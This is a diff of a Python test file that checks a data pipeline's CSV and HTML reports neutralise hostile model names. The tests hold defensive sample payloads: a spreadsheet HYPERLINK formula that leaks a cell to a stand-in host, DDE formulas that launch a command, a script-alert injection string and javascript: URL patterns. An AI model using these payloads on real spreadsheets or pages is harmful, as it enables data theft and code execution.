@@ -35,7 +35,7 @@ from pipeline.sources import epoch, registry, wikipedia
 from tests.conftest import REPO, VALIDATE_PARAMS
 from tests.httpserver import LoopbackServer, Route, gzip_bomb
 from tests.test_merge import PARAMS as MERGE_PARAMS
-from tests.test_report import REPORT_PARAMS, TREND_PARAMS
+from tests.test_report import REPORT_PARAMS, TREND_PARAMS, page_markup
 
 MEGABYTE_NAME = "L" * 1_000_000
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -134,7 +134,7 @@ def hostile_chain(tmp_path_factory):
         write_csv(out / f"{name}.csv", frame)
     metrics, frontier = trends.compute_metrics(merged["models"], TREND_PARAMS)
     report.build_report(merged["models"], json.loads(json.dumps(metrics)), frontier, result.summary,
-                        {**REPORT_PARAMS, "label_top_n": 40}, out / "reports")
+                        REPORT_PARAMS, out / "reports")
     return {"sources": sources, "result": result, "merged": merged, "out": out}
 
 
@@ -166,13 +166,15 @@ def test_csv_outputs_neutralise_formula_cells(hostile_chain):
 
 
 def test_report_escapes_every_hostile_name(hostile_chain):
-    """Hostile: the same names through the whole pipeline into reports/index.html (figure labels) → escaped: no
-    <script>, <img> or javascript: URL in the page
+    """Hostile: the same names through the whole pipeline into reports/index.html (figures, table of models) → data
+    the page's script sets as text: no <script> but the page's own, no <img> or javascript: URL in the page
     """
     page = (hostile_chain["out"] / "reports" / "index.html").read_text(encoding="utf-8")
-    assert "&lt;script&gt;alert(" in page  # names reach the page (as figure labels), escaped
-    assert "<script" not in page.lower() and "<img" not in page.lower()
-    assert not re.search(r"""(href|src|on\w+)\s*=\s*["']?\s*javascript:""", page, re.IGNORECASE)
+    strings = json.loads(re.search(r'<script type="application/json" id="strings">(.*?)</script>', page, re.DOTALL)[1])
+    assert '<script>alert("x")</script>' in strings  # names reach the page as data, which its script sets as text
+    markup = page_markup(page)  # the page's scripts are ours only, its JSON holds no '<'
+    assert "<script" not in markup.lower() and "<img" not in markup.lower()
+    assert not re.search(r"""(href|src|on\w+)\s*=\s*["']?\s*javascript:""", markup, re.IGNORECASE)
 
 
 def test_live_sources_lose_invisible_characters_and_ids_stay_ascii_slugs(hostile_chain):
@@ -228,7 +230,7 @@ def _unquoted(cell: str) -> str:
 
 def assert_inert_html(page: str, names: list[str]) -> None:
     """No script, event handler or javascript: URL; every name is there as text."""
-    soup = BeautifulSoup(page, "html.parser")
+    soup = BeautifulSoup(page_markup(page), "html.parser")  # the page's own scripts only, taken out
     assert soup.find_all("script") == []
     for tag in soup.find_all(True):
         for attribute, value in tag.attrs.items():
@@ -493,7 +495,7 @@ def test_bombs_from_the_server_are_cut_with_bounded_memory_and_time(route):
 
 
 def test_report_survives_mathtext_in_names(tmp_path):
-    """Hostile: a model name that is broken matplotlib mathtext (an unclosed `$…{$`) on a figure label → the report
+    """Hostile: a model name that is broken mathtext (an unclosed `$…{$`) on a figure label → the report
     is still built
     """
     from tests.test_report import _models
